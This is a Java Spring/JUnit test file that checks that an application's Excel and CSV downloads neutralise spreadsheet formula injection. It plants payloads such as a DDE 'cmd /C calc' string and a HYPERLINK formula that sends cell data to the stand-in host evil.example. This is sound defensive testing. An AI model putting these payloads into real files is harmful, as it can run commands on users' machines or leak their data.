package ma.marsad.excelexport.api;

import static ma.marsad.excelimport.TestWorkbook.row;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

import ma.marsad.ApiClient;
import ma.marsad.MarsadSpringTest;
import ma.marsad.excelimport.ImportedFiguresCleanup;
import ma.marsad.excelimport.TestWorkbook;

/**
 * Formula injection on every download, with every first character a spreadsheet could run (issue 9): hostile
 * text is stored where users can put text (a figure's comment, an import's file name, an indicator's names,
 * unit and source in the database) or sent in a clerk's file, each file is downloaded through the real API,
 * and every such text must come back as a quote-prefixed string cell (in the CSV: behind an apostrophe).
 * None of these files holds a formula on purpose, so no cell may be a formula at all.
 */
@MarsadSpringTest
class FormulaInjectionTest {

    /** OWASP's = + - @ tab CR, the line feed it added in 2025, and the full-width signs (see SafeText). */
    private static final List<String> DANGEROUS = List.of("=", "+", "-", "@", "\t", "\r", "\n",
            "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20");

    enum Download { REPORT_XLSX, REPORT_CSV, ANNOTATED_COPY, IMPORT_TEMPLATE }

    @LocalServerPort
    int port;
    @Autowired
    JdbcTemplate jdbc;
    @TempDir
    Path dir;

    private ApiClient api;
    private Map<String, Object> unicorns;

    @BeforeEach
    void rememberTheIndicator() {
        api = new ApiClient(port);
        unicorns = jdbc.queryForMap("select * from indicator where code = 'UNICORNS'");
    }

    @AfterEach
    void putTheIndicatorBackAndRemoveImports() {
        jdbc.update("update indicator set name_fr = ?, name_en = ?, name_ar = ?, unit_fr = ?, unit_en = ?, unit_ar = ?,"
                        + " source_file = ?, source_quote = ? where code = 'UNICORNS'",
                unicorns.get("NAME_FR"), unicorns.get("NAME_EN"), unicorns.get("NAME_AR"), unicorns.get("UNIT_FR"),
                unicorns.get("UNIT_EN"), unicorns.get("UNIT_AR"), unicorns.get("SOURCE_FILE"), unicorns.get("SOURCE_QUOTE"));
        ImportedFiguresCleanup.removeImports(jdbc);
    }

    static Stream<Arguments> everyDownloadTimesEveryCharacter() {
        return Stream.of(Download.values()).flatMap(download -> DANGEROUS.stream()
                .map(first -> Arguments.of(download, first, visible(first))));
    }

    @ParameterizedTest(name = "{0} keeps text starting with {2} as text")
    @MethodSource("everyDownloadTimesEveryCharacter")
    void hostileTextComesBackAsTextNeverAsAFormula(Download download, String first, String shown) throws Exception {
        // The report shows every planted text; the CSV has no source columns, the template no source either.
        List<String> planted = switch (download) {
            case REPORT_XLSX -> plantInTheDatabase(first);
            case REPORT_CSV -> plantInTheDatabase(first).stream().filter(t -> !t.contains("source.pdf")
                    && !t.endsWith("quote")).toList();
            case IMPORT_TEMPLATE -> plantInTheIndicator(first).subList(0, 2);
            case ANNOTATED_COPY -> List.of(first + "cmd|' /C calc'!A0", first + "UNICORN", first + "stray note");
        };

        switch (download) {
            case REPORT_XLSX -> assertGuarded(workbook(api.sendForBytes(api.request(
                    "/api/reports/progress.xlsx?indicator=UNICORNS&includeUnapproved=true&lang=en", "manager"))), planted);
            case IMPORT_TEMPLATE -> assertGuarded(workbook(api.sendForBytes(api.request(
                    "/api/imports/template.xlsx?lang=en", "clerk"))), planted);
            case ANNOTATED_COPY -> {
                byte[] file = TestWorkbook.xlsx().progress(
                        row("UNICORNS", "2026-Q3", "Oriental", 1, planted.get(0)),
                        row(planted.get(1), "2026-Q3", "Oriental", 1, null, null, planted.get(2))).bytes(dir);
                assertGuarded(workbook(api.sendForBytes(ApiClient.multipart(
                        api.request("/api/imports/annotated.xlsx", "clerk"), "figures.xlsx", file))), planted);
            }
            case REPORT_CSV -> {
                HttpResponse<String> csv = api.send(api.request(
                        "/api/reports/progress.csv?indicator=UNICORNS&includeUnapproved=true&lang=en", "manager"));
                assertThat(csv.statusCode()).isEqualTo(200);
                List<String> fields = new ArrayList<>();
                parseCsv(csv.body().substring(1)).forEach(fields::addAll);
                for (String text : planted) {
                    assertThat(fields).as("the CSV holds " + visible(text)).contains("'" + text);
                }
                assertThat(fields).as("fields a spreadsheet would run").noneMatch(FormulaInjectionTest::dangerous);
            }
        }
    }

    /** An import for UNICORNS whose comment and file name, and the indicator's texts, start with {@code first}. */
    private List<String> plantInTheDatabase(String first) throws Exception {
        List<String> planted = new ArrayList<>(plantInTheIndicator(first));
        byte[] file = TestWorkbook.xlsx().progress(row("UNICORNS", "2026-Q3", "Oriental", 1, "ordinary")).bytes(dir);
        assertThat(api.upload("/api/imports", "clerk", "figures.xlsx", file).statusCode()).isEqualTo(200);
        // Straight into the database: the import and the form trim a comment's leading white space, and the file
        // name loses its control characters, so only this way do a tab, CR and LF reach the export.
        String comment = first + "HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")";
        String fileName = first + "cmd|' /C calc'!A0.xlsx";
        jdbc.update("update progress_entry set comment_text = ? where import_id is not null", comment);
        jdbc.update("update import_record set file_name = ?", fileName);
        planted.add(comment);
        planted.add(fileName);
        return planted;
    }

    /** The indicator's names (three languages), unit and source as an administrator's typing could leave them. */
    private List<String> plantInTheIndicator(String first) {
        String name = first + "SUM(1+1)*cmd|' /C calc'!A0";
        String unit = first + "unit";
        String source = first + "source.pdf";
        String quote = first + "quote";
        jdbc.update("update indicator set name_fr = ?, name_en = ?, name_ar = ?, unit_fr = ?, unit_en = ?, unit_ar = ?,"
                + " source_file = ?, source_quote = ? where code = 'UNICORNS'", name, name, name, unit, unit, unit,
                source, quote);
        return List.of(name, unit, source, quote);
    }

    /**
     * Every planted text is in the workbook as a quote-prefixed string cell, every other string cell that could
     * be run is quote-prefixed too, and no cell is a formula.
     */
    private static void assertGuarded(XSSFWorkbook workbook, List<String> planted) throws Exception {
        try (workbook) {
            List<String> guarded = new ArrayList<>();
            for (Sheet sheet : workbook) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        String where = sheet.getSheetName() + "!" + cell.getAddress();
                        assertThat(cell.getCellType()).as(where).isNotEqualTo(CellType.FORMULA);
                        if (cell.getCellType() == CellType.STRING && dangerous(cell.getStringCellValue())) {
                            assertThat(cell.getCellStyle().getQuotePrefixed())
                                    .as(where + " " + visible(cell.getStringCellValue())).isTrue();
                            guarded.add(cell.getStringCellValue());
                        }
                    }
                }
            }
            for (String text : planted) {
                assertThat(guarded).as("a quote-prefixed cell holding " + visible(text)).contains(text);
            }
        }
    }

    private static XSSFWorkbook workbook(HttpResponse<byte[]> response) throws Exception {
        assertThat(response.statusCode()).isEqualTo(200);
        return new XSSFWorkbook(new ByteArrayInputStream(response.body()));
    }

    private static boolean dangerous(String text) {
        return !text.isEmpty() && DANGEROUS.contains(text.substring(0, 1));
    }

    private static String visible(String text) {
        return text.replace("\t", "TAB").replace("\r", "CR").replace("\n", "LF");
    }

    /** RFC 4180: commas between fields, quotes around fields holding a comma, a quote or a line break, CRLF after each record. */
    static List<List<String>> parseCsv(String csv) {
        List<List<String>> records = new ArrayList<>();
        List<String> record = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char ch = csv.charAt(i);
            if (quoted) {
                if (ch == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (ch == '"') {
                    quoted = false;
                } else {
                    field.append(ch);
                }
            } else if (ch == '"') {
                quoted = true;
            } else if (ch == ',') {
                record.add(field.toString());
                field.setLength(0);
            } else if (ch == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
                record.add(field.toString());
                field.setLength(0);
                records.add(record);
                record = new ArrayList<>();
                i++;
            } else {
                field.append(ch);
            }
        }
        return records;
    }
}
